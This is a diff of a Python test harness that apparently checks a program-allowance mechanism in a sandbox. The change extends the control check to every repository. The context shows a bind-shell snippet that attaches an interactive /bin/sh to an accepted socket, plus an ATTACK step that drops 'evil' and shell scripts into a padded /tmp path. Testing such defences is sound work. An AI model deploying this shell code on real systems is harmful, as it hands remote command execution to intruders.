@@ -58,8 +58,9 @@ while True:
     c, _ = s.accept(); subprocess.Popen(['/bin/sh', '-i'], stdin=c, stdout=c, stderr=c)
 """
 PAD = "/tmp/" + "x" * 60
-ADD = (f"mkdir -p /opt/report\ncat > /opt/report/report.py <<'X'\n{REPORT}X\ncat > /opt/report/serve.py <<'X'\n{SERVE}X\n"
-       "cd /\nsetsid -f runuser -u yourapplication -- /usr/bin/python3 /opt/report/report.py >/dev/null 2>&1 </dev/null\n"
+ADD = (f"mkdir -p /opt/report\ncat > /opt/report/report.py <<'X'\n{REPORT}X\n"
+       f"cat > /opt/report/serve.py <<'X'\n{SERVE}X\ncd /\n"
+       "setsid -f runuser -u yourapplication -- /usr/bin/python3 /opt/report/report.py >/dev/null 2>&1 </dev/null\n"
        "setsid -f runuser -u yourapplication -- /usr/bin/python3 /opt/report/serve.py >/dev/null 2>&1 </dev/null\n"
        "sleep 2\n")
 ATTACK = (f"cat > {PAD}e.py <<'X'\n{EVIL}X\ncat > {PAD}s.py <<'X'\n{SHELL}X\n"
@@ -102,7 +103,8 @@ def main(repos: list[Path]) -> None:
         first = show("the two programs running, no allowances", run(repos[0]))
         allow = pinned(first)
         print("\npinned allowances from the hints:\n" + allow, flush=True)
-        show("pinned allowances (control: the allowed programs unchanged)", run(repos[0], allow))
+        for repo in repos:
+            show(f"{repo}: pinned allowances (control: the allowed programs unchanged)", run(repo, allow))
         print(sh(box, ATTACK, user="yourapplication"))
         print(sh(box, "ps -eo pid,user,args | grep -E 'report|python' | grep -v grep; ss -ltnp | grep 8099; "
                       "ls -l /proc/$(pgrep -f serve.py | head -1)/exe"), flush=True)
